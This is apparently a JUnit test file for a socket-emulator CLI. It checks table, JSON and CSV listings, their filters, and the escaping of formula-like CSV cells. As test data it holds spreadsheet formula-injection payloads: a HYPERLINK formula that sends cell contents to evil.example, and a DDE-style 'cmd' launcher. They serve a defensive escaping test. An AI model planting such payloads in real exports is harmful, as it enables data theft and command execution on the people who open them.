package org.wskemu.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The listing commands ({@code state}, {@code history}, {@code audit}) as SESSION-FORMAT.md's CLI
 * section has them: a table, {@code --json}, {@code --csv} and {@code -o table|json|csv}; CSV that a
 * real CSV reader (Jackson's CSV dataformat) reads back, with formula-looking cells prefixed by
 * {@code '}; and the filters.
 */
class ListingCommandsTest {

    /** Labels a spreadsheet would read as formulas; the first is the one found live in LibreOffice Calc. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTAB",
            "\rCR");

    @TempDir
    static Path temp;
    static String store;
    /** Run 1 is the quickstart; run 2 binds the formula labels, the second of each pair refused by the first. */
    static Map<Integer, JsonNode> run2;

    @BeforeAll
    static void runQuickstartThenFormulas() {
        store = temp.resolve("store").toString();
        Cli.ok("--store", store, "run", Cli.QUICKSTART.toString());
        List<String> lines = new ArrayList<>(List.of(
                "{\"op\":\"process\",\"pid\":4,\"user\":\"SY\"}",
                "{\"op\":\"process\",\"pid\":1300,\"user\":\"S-1-5-21-1-2-3-1002\"}"));
        int port = 9000;
        for (String label : FORMULAS) {
            String json = Cli.jsonString(label);
            lines.add("{\"op\":\"socket\",\"socket\":" + json + ",\"category\":\"listen\",\"family\":\"inet\",\"process\":4}");
            lines.add("{\"op\":\"set\",\"socket\":" + json + ",\"option\":\"SO_EXCLUSIVEADDRUSE\",\"value\":1}");
            lines.add("{\"op\":\"bind\",\"socket\":" + json + ",\"address\":\"0.0.0.0:" + port + "\"}");
            String second = Cli.jsonString(label + "2");
            lines.add("{\"op\":\"socket\",\"socket\":" + second + ",\"category\":\"listen\",\"family\":\"inet\",\"process\":1300}");
            lines.add("{\"op\":\"bind\",\"socket\":" + second + ",\"address\":\"10.0.0.1:" + port + "\",\"expect\":\"ACCESS_DENIED\"}");
            port++;
        }
        Path session = Cli.session(temp.resolve("formulas.wsk.jsonl"), lines);
        run2 = Cli.ok("--store", store, "run", "--json", session.toString()).json().stream()
                .filter(n -> n.has("line")).collect(Collectors.toMap(n -> n.get("line").asInt(), n -> n));
    }

    @Nested
    class Csv {

        @Test
        void auditCsvReadByACsvReaderPrefixesEveryFormulaCell() throws IOException {
            List<List<String>> records = read(Cli.ok("--store", store, "audit", "--csv", "--run", "2").out());
            List<String> header = records.get(0);
            int socket = header.indexOf("socket");
            int deciding = header.indexOf("decidingSocket");
            assertEquals(1 + 2 * FORMULAS.size(), records.size());
            for (int i = 0; i < FORMULAS.size(); i++) {
                String label = FORMULAS.get(i);
                List<String> holder = records.get(1 + 2 * i);
                List<String> refused = records.get(2 + 2 * i);
                assertEquals("'" + escaped(label), holder.get(socket));
                assertEquals("'" + escaped(label + "2"), refused.get(socket));
                assertEquals("'" + escaped(label), refused.get(deciding), "the deciding socket's cell too");
                assertTrue(refused.get(socket).startsWith("'"));
            }
        }

        @Test
        void theLiveHyperlinkOfTheIssueIsTextInEveryListing() throws IOException {
            String hyperlink = FORMULAS.get(0);
            for (String[] command : List.of(new String[] {"state", "--csv"}, new String[] {"history", "--csv"},
                    new String[] {"audit", "-o", "csv"})) {
                List<String> args = new ArrayList<>(List.of("--store", store));
                args.addAll(Arrays.asList(command));
                List<List<String>> records = read(Cli.ok(args.toArray(String[]::new)).out());
                List<String> cells = records.stream().flatMap(List::stream).filter(c -> c.contains("HYPERLINK")).toList();
                assertTrue(!cells.isEmpty(), () -> String.join(" ", command));
                for (String cell : cells) {
                    assertTrue(cell.startsWith("'") || !cell.startsWith("="), () -> cell);
                    assertTrue(!cell.startsWith("=") && !cell.startsWith("+") && !cell.startsWith("-")
                            && !cell.startsWith("@"), cell);
                }
                assertTrue(cells.contains("'" + hyperlink) || cells.stream().anyMatch(c -> c.contains(hyperlink)),
                        () -> cells.toString());
            }
        }

        @Test
        void recordsEndWithCrLfAndTheHeaderComesFirst() {
            String out = Cli.ok("--store", store, "state", "--csv").out();
            assertTrue(out.startsWith(String.join(",", StateCommand.COLUMNS) + "\r\n"), out);
            assertEquals(out.lines().count(), out.split("\r\n", -1).length - 1, "every line ends with CRLF");
        }

        @Test
        void stateCsvHasTheJsonKeysAsColumns() throws IOException {
            List<List<String>> records = read(Cli.ok("--store", store, "state", "--csv").out());
            List<JsonNode> json = Cli.ok("--store", store, "state", "--json").json();
            assertEquals(json.size() + 1, records.size());
            for (int i = 0; i < json.size(); i++) {
                JsonNode row = json.get(i);
                List<String> record = records.get(i + 1);
                assertEquals(Cli.keys(row), records.get(0));
                assertEquals(row.get("address").asText(), record.get(4));
                assertEquals(row.get("boundAt").asText(), record.get(7));
            }
        }

        /** The label as a CSV cell shows it: control characters escaped like everywhere else. */
        private static String escaped(String label) {
            return org.wskemu.api.text.SafeText.escape(label);
        }
    }

    @Nested
    class Formats {

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"state", "history", "audit", "history --runs"})
        void dashOIsTheSameAsTheFlags(String command) {
            assertEquals(out(command + " --json"), out(command + " -o json"));
            assertEquals(out(command + " --csv"), out(command + " -o csv"));
            assertEquals(out(command), out(command + " -o table"));
            assertEquals(out(command + " --json"), out(command + " --json -o JSON"));
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"state --json --csv", "audit --csv -o json", "history -o table --json"})
        void twoFormatsThatDisagreeAreAUsageError(String command) {
            Cli.Result result = run(command);
            Cli.assertOneLineError(2, result);
            assertTrue(result.err().contains("was asked for too"), result::toString);
        }

        @Test
        void anUnknownFormatIsAUsageError() {
            Cli.Result result = run("audit -o xml");
            Cli.assertOneLineError(2, result);
            assertTrue(result.err().contains("expected table, json or csv, was 'xml'"), result::toString);
        }
    }

    @Nested
    class Filters {

        @Test
        void auditByRunSocketAndPositionRange() {
            List<JsonNode> all = json("audit");
            List<JsonNode> second = json("audit --run 2");
            assertEquals(2 * FORMULAS.size(), second.size());
            assertTrue(second.stream().allMatch(n -> n.get("run").asLong() == 2));
            assertEquals(List.of("b443", "b443"), json("audit --socket b443").stream().map(n -> n.get("socket").asText()).toList());
            long from = all.get(2).get("position").asLong();
            long to = all.get(4).get("position").asLong();
            assertEquals(all.subList(2, 5).toString(), json("audit --from " + from + " --to " + to).toString());
            assertEquals(List.of(), json("audit --run 2 --socket b443"));
        }

        @Test
        void aBindGrantedByAnAccessCheckShowsItsCellAndTheGrantingAce() {
            JsonNode b80 = json("audit --socket b80").get(0);
            assertEquals("STATUS_SUCCESS", b80.get("status").asText());
            assertEquals("first NONE W then second NONE S -> CHECK (granted)", b80.get("cell").asText());
            assertEquals("(A;;GW;;;BU)", b80.get("ace").asText());
            assertEquals("a80", b80.get("decidingSocket").asText());
            List<String> table = out("audit --socket b80").lines().toList();
            assertTrue(table.get(1).contains("first NONE W then second NONE S -> CHECK (granted)  (A;;GW;;;BU)"),
                    () -> String.join("\n", table));
            JsonNode c80 = json("audit --socket c80").get(0);
            assertEquals("first NONE W then second NONE S -> CHECK (refused)", c80.get("cell").asText());
            assertEquals("-", c80.get("ace").asText(), "no ACE matched C's token: nothing granted");
        }

        @Test
        void historyBySocketPortProcessStatusAndOp() {
            List<JsonNode> b443 = json("history --socket b443");
            assertTrue(b443.size() >= 3, b443::toString);
            assertTrue(b443.stream().allMatch(n -> n.get("text").asText().contains("b443")), b443::toString);
            List<JsonNode> port443 = json("history --port 443");
            assertTrue(port443.stream().allMatch(n -> n.get("text").asText().contains("443")), port443::toString);
            assertEquals(json("audit --status ACCESS_DENIED").stream().map(n -> n.get("position").asLong()).toList(),
                    json("history --op bind --status ACCESS_DENIED").stream().map(n -> n.get("position").asLong()).toList());
            List<JsonNode> processes = json("history --op process");
            assertEquals(5, processes.size(), processes::toString);
            assertTrue(json("history --process 1300 --op socket").stream()
                    .allMatch(n -> n.get("type").asText().equals("SocketCreated")));
            assertEquals(List.of("no events match (store " + store + ")"), out("history --socket nosuch").lines().toList());
            Cli.assertOneLineError(2, run("history --op connect"));
            Cli.assertOneLineError(2, run("history --port 70000"));
        }

        @Test
        void statePort() {
            List<JsonNode> port80 = json("state --port 80");
            assertEquals(List.of("a80", "b80"), port80.stream().map(n -> n.get("socket").asText()).toList());
            assertTrue(out("state --port 7").startsWith("no live bindings on port 7 "));
        }
    }

    static List<List<String>> read(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> records = new ArrayList<>();
        try (MappingIterator<String[]> rows = mapper.readerFor(String[].class).readValues(csv)) {
            rows.forEachRemaining(r -> records.add(Arrays.asList(r)));
        }
        return records;
    }

    static Cli.Result run(String command) {
        List<String> args = new ArrayList<>(List.of("--store", store));
        args.addAll(Arrays.asList(command.split(" ")));
        return Cli.run(args.toArray(String[]::new));
    }

    static String out(String command) {
        Cli.Result result = run(command);
        assertEquals(0, result.exit(), result::toString);
        return result.out();
    }

    static List<JsonNode> json(String command) {
        return Cli.parseLines(out(command + " --json"));
    }
}
